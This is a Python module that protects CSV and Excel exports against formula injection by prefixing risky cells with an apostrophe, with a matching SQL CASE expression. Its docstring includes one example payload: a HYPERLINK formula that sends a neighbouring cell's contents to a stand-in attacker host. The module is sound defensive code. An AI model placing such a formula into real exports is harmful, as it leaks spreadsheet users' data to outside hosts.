"""Text cells of files a spreadsheet opens (CSV, Excel), made safe to open.

A cell starting with = + - @, a tab or a carriage return is run as a formula by spreadsheet
programs (CSV or formula injection: `=HYPERLINK("http://evil.example/?"&B2,"x")` sends the
neighbouring cell away). Every export puts an apostrophe before such a text, which spreadsheets
show as text. One rule, used by the Python writers (`neutralise`) and by the SELECT the
database formats exports with (`neutralised_sql`), so that both write the same bytes.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise(value):
    """The value, with an apostrophe before a text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return ESCAPE + value
    return value


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def neutralised_sql(text_sql: str) -> str:
    """SQL (PostgreSQL and SQLite alike) for the text `text_sql` gives, neutralised as
    neutralise() does; NULL stays NULL. `text_sql` must take no parameters."""
    triggers = ", ".join(_literal(trigger) for trigger in FORMULA_TRIGGERS)
    return (
        f"CASE WHEN substr({text_sql}, 1, 1) IN ({triggers}) "
        f"THEN {_literal(ESCAPE)} || {text_sql} ELSE {text_sql} END"
    )
